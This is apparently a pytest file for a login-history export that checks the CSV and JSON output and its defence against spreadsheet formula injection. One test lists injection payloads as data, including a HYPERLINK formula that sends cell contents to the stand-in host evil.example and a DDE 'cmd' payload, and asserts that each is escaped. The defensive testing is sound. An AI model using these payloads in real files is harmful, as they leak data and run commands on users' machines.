"""The history as a table and as JSON: whole, in the reader's words, and harmless in a spreadsheet."""

import csv
import io
import json
from typing import Any
from uuid import UUID

import pytest
from translationstring import TranslationString

from tests.common.clock import START
from warehouse_mfa.events.interfaces import Circumstances, HistoryEntry
from warehouse_mfa.profile.history import line_of
from warehouse_mfa.profile.history_file import COLUMNS, as_csv, as_json, row_of

ID = UUID(int=1)


def row(**changes: Any) -> dict[str, Any]:
    """Return the row of a login with a key, with other values where they are given."""
    around = Circumstances(None, None, "webauthn", "192.0.2.1", "Firefox/1 Linux")
    facts = {"credential": "Key", "is_known_device": False}
    entry = HistoryEntry(ID, "account:login:completed", facts, START, around)
    line = line_of(entry, {"webauthn": "Security key"})
    return {**row_of(entry, line, say), **changes}


def say(text: str) -> str:
    return str(text.interpolate()) if isinstance(text, TranslationString) else text


def table(*rows: dict[str, Any]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(as_csv(rows)).decode("utf-8-sig"), newline="")))


def test_a_table_has_a_line_of_names_and_one_for_each_event() -> None:
    assert table(row()) == [
        list(COLUMNS),
        [
            str(ID),
            "2026-12-01T12:00:07Z",
            "account:login:completed",
            "You logged in with the security key Key.",
            "no",
            "yes",
            "192.0.2.1",
            "Firefox on Linux",
            "Security key",
        ],
    ]


def test_a_table_begins_with_the_mark_that_spreadsheets_need() -> None:
    assert next(as_csv([])).startswith(b"\xef\xbb\xbf")


def test_what_is_not_known_is_empty() -> None:
    *_, line = table(row(address=None, browser=None, factor=None))

    assert line[-3:] == ["", "", ""]


@pytest.mark.attack("P-102")
@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
@pytest.mark.parametrize("column", ["event", "sentence", "address", "browser", "factor"])
def test_nothing_is_a_formula(column: str, text: str) -> None:
    *_, line = table(row(**{column: text}))

    assert line[COLUMNS.index(column)] == f"'{text}"


@pytest.mark.parametrize(
    "text", ['one "two", three', "a\r\nb", "a;b", "\u0645\u0631\u062d\u0628\u0627", "7"]
)
def test_what_is_no_formula_comes_back_as_it_was(text: str) -> None:
    *_, line = table(row(sentence=text))

    assert line[COLUMNS.index("sentence")] == text


@pytest.mark.parametrize("number", [0, 1, 3])
def test_json_is_one_object_with_every_event_and_its_facts(number: int) -> None:
    rows = [row()] * number

    assert json.loads(b"".join(as_json(rows))) == {"events": rows}
    assert all(one["facts"] == {"credential": "Key", "is_known_device": False} for one in rows)
